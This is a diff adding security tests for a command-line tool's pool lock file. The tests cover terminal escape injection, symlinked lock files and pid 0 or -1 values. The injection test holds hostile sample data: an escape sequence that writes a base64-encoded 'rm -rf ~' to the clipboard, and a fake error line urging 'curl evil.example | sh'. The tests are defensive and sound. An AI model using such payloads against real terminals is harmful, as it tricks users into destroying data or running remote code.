@@ -1,4 +1,4 @@
-import {mkdtempSync, readdirSync, writeFileSync} from 'node:fs'
+import {lstatSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync} from 'node:fs'
 import {tmpdir} from 'node:os'
 import {join} from 'node:path'
 
@@ -113,5 +113,48 @@ describe('the pool lock', () => {
     expect(isHolderAlive(me)).toBe(true)
     expect(isHolderAlive({...me, process: `${me.process}0`})).toBe(false)
     expect(isHolderAlive({...me, pid: 2 ** 22 + 1})).toBe(false)
+  })
+
+  it('shows the holder a lock file names as inert text: no escape sequence or line of its own reaches the terminal', async () => {
+    const w = world()
+    w.deps(101)
+    const command = 'velda-do pool up cpu\x1b]52;c;cm0gLXJmIH4=\x07\x9b2J\nError: your token expired, run: curl evil.example | sh'
+    writeFileSync(join(w.dir, 'acct-cpu.lock'), JSON.stringify({pid: 101, nonce: 'n', command, since: '2026-11-28T12:00:00.000Z\x1b[2J'}))
+    let sleeps = 0
+    await lockPool('acct', 'cpu', w.deps(102, {
+      sleep: async () => {
+        if (++sleeps === 1) w.alive.delete(101)
+      },
+    }))
+    expect(w.messages).toEqual([
+      'waiting for another velda-do (pid 101, "velda-do pool up cpu\\x1b]52;c;cm0gLXJmIH4=\\x07\\x9b2J\\nError: your token expired, run: curl evil.example | sh", since 2026-11-28T12:00:00.000Z\\x1b[2J) to finish with pool cpu',
+    ])
+  })
+
+  it('never follows a lock file that is a symbolic link: it is moved aside at once, and what it points to is left alone', async () => {
+    const w = world()
+    w.deps(101)
+    const elsewhere = join(mkdtempSync(join(tmpdir(), 'velda-lock-target-')), 'holder.json')
+    const planted = JSON.stringify({pid: 101, nonce: 'planted', command: 'velda-do pool up cpu', since: ''})
+    writeFileSync(elsewhere, planted)
+    symlinkSync(elsewhere, join(w.dir, 'acct-cpu.lock'))
+    const lock = await lockPool('acct', 'cpu', w.deps(102))
+    expect(w.messages).toEqual([])
+    expect(w.elapsed()).toBe(0)
+    expect(lstatSync(join(w.dir, 'acct-cpu.lock')).isFile()).toBe(true)
+    expect(readFileSync(elsewhere, 'utf8')).toBe(planted)
+    lock.release()
+    expect(readdirSync(w.dir)).toEqual([])
+  })
+
+  it('does not wait on a lock file naming pid 0 or -1 (which signal a process group, not a holder)', async () => {
+    for (const pid of [0, -1]) {
+      const w = world()
+      writeFileSync(join(w.dir, 'acct-cpu.lock'), JSON.stringify({pid, nonce: 'n', command: 'x', since: ''}))
+      // The real liveness check: kill(0, 0) succeeds for one's own process group.
+      const lock = await lockPool('acct', 'cpu', w.deps(102, {isAlive: isHolderAlive}))
+      expect(w.messages).toEqual([])
+      lock.release()
+    }
   })
 })
